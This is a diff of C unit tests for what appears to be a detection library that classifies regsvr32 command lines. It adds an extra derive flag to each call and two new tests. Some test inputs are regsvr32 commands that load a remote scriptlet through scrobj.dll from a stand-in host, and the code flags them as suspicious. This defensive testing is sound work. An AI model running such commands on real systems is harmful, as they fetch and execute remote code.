@@ -49,7 +49,7 @@ static void check_identity(void **state)
 	derived_put(&d, SQ_F_ORIGINAL_FILE_NAME, tc->original);
 	derived_put(&d, SQ_F_DESCRIPTION, tc->description);
 	derived_put(&d, SQ_F_HASHES, tc->hashes);
-	sq_derive(&d.ev, &d.arena);
+	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
 	derived_check(&d, tc->want);
 	derived_fini(&d);
 }
@@ -63,7 +63,7 @@ static void a_library_does_not_lend_its_name_to_who_loads_it(void **state)
 	d.ev.category = SQ_CATEGORY_IMAGE_LOAD;
 	derived_put(&d, SQ_F_IMAGE, "C:\\V\\app.exe");
 	derived_put(&d, SQ_F_ORIGINAL_FILE_NAME, "REGSVR32.EXE");
-	sq_derive(&d.ev, &d.arena);
+	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
 	derived_check(&d, "program=app.exe\nrenamed=-\nimage_name=app.exe");
 	derived_fini(&d);
 }
@@ -80,7 +80,7 @@ static void the_process_of_other_events_is_named(void **state)
 		d.ev.category = SQ_CATEGORY_NONE;
 		derived_put(&d, fields[i],
 		            "\\device\\harddiskvolume2\\windows\\system32\\regsvr32.exe");
-		sq_derive(&d.ev, &d.arena);
+		sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
 		derived_check(&d, "program=regsvr32.exe\nimage_name=regsvr32.exe\nmoved=false");
 		derived_fini(&d);
 	}
@@ -96,10 +96,37 @@ static void every_one_of_two_images_and_lines_counts(void **state)
 	derived_put(&d, SQ_F_COMMAND_LINE, "regsvr32 /s \"C:\\Program Files\\V\\v.dll\"");
 	derived_put(&d, SQ_F_COMMAND_LINE,
 	            "regsvr32 /i:http://h/a scrobj.dll C:\\ProgramData\\a.dll");
-	sq_derive(&d.ev, &d.arena);
+	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
 	derived_check(
 		&d, "regsvr32.lawful=false\nregsvr32.scrobj=true\nregsvr32.install_class=none|url\n"
 		    "argument_count=2|3");
+	derived_fini(&d);
+}
+
+static void without_an_image_the_line_says_who_it_is_for(void **state)
+{
+	struct derived d;
+
+	(void)state;
+	derived_init(&d);
+	derived_put(&d, SQ_F_COMMAND_LINE,
+	            "C:\\Windows\\System32\\regsvr32 /s c:\\programdata\\a.dll");
+	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
+	derived_check(&d, "program=regsvr32.exe\nimage=-\nregsvr32.library_place=user_writable");
+	derived_fini(&d);
+}
+
+static void of_two_images_both_are_read_for(void **state)
+{
+	struct derived d;
+
+	(void)state;
+	derived_init(&d);
+	derived_put(&d, SQ_F_IMAGE, "C:\\Windows\\System32\\notepad.exe");
+	derived_put(&d, SQ_F_IMAGE, "C:\\Windows\\System32\\regsvr32.exe");
+	derived_put(&d, SQ_F_COMMAND_LINE, "x /i:http://h/a scrobj");
+	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
+	derived_check(&d, "program=notepad.exe|regsvr32.exe\nregsvr32.scrobj=true");
 	derived_fini(&d);
 }
 
@@ -117,7 +144,7 @@ static void too_many_arguments_leave_room_for_what_they_mean(void **state)
 	derived_init(&d);
 	derived_put(&d, SQ_F_IMAGE, DEFAULT);
 	derived_put(&d, SQ_F_COMMAND_LINE, line);
-	sq_derive(&d.ev, &d.arena);
+	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
 	derived_check(&d, "regsvr32.lawful=false\nregsvr32.scrobj=true\n"
 	                  "regsvr32.install_class=url\nregsvr32.switch=s|i");
 	assert_non_null(strstr(derived_text(&d, "squibly.trick"), "many_arguments"));
@@ -138,7 +165,7 @@ static void a_full_arena_is_survived_and_told(void **state)
 		derived_put(
 			&d, SQ_F_COMMAND_LINE,
 			"regsvr32 /s /u /i:http://h/a.sct \"C:\\Program Files\\x.dll\" scrobj.dll");
-		sq_derive(&d.ev, &d.arena);
+		sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
 		if (cap < 64)
 			assert_true(d.ev.flags & SQ_EVENT_OVERFLOW);
 		derived_fini(&d);
@@ -151,6 +178,8 @@ int main(void)
 		cmocka_unit_test(a_library_does_not_lend_its_name_to_who_loads_it),
 		cmocka_unit_test(the_process_of_other_events_is_named),
 		cmocka_unit_test(every_one_of_two_images_and_lines_counts),
+		cmocka_unit_test(without_an_image_the_line_says_who_it_is_for),
+		cmocka_unit_test(of_two_images_both_are_read_for),
 		cmocka_unit_test(too_many_arguments_leave_room_for_what_they_mean),
 		cmocka_unit_test(a_full_arena_is_survived_and_told),
 	};
